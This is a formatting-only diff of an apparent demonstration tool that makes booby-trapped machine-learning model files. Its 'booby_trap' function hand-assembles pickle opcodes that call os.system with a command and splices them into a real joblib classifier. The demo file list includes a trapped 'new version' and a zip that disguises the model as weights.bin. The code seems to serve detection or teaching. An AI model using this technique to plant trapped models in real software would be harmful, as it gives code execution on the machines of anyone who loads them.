@@ -33,7 +33,10 @@ def booby_trap(pickle_bytes: bytes, command: str = PAYLOAD_COMMAND) -> bytes:
     payload = (
         b"\x80\x04"
         + b"\x8c\x02os\x8c\x06system\x93"
-        + b"\x8c" + bytes([len(cmd)]) + cmd + b"\x85R0"
+        + b"\x8c"
+        + bytes([len(cmd)])
+        + cmd
+        + b"\x85R0"
     )
     return payload + pickle_bytes[2:]
 
@@ -65,7 +68,9 @@ def write_demo_files(directory: Path) -> list[DemoFile]:
         DemoFile("tumour_classifier_compressed.joblib", "the same, zlib-compressed", False),
         DemoFile("reference_features.npz", "numpy arrays", False),
         DemoFile("tumour_classifier_v2.joblib", "a 'new version' with a spliced-in payload", True),
-        DemoFile("release_bundle.zip", "a zip carrying the trapped model renamed weights.bin", True),
+        DemoFile(
+            "release_bundle.zip", "a zip carrying the trapped model renamed weights.bin", True
+        ),
     ]
     joblib.dump(model, directory / files[0].name)
     joblib.dump(model, directory / files[1].name, compress=("zlib", 3))
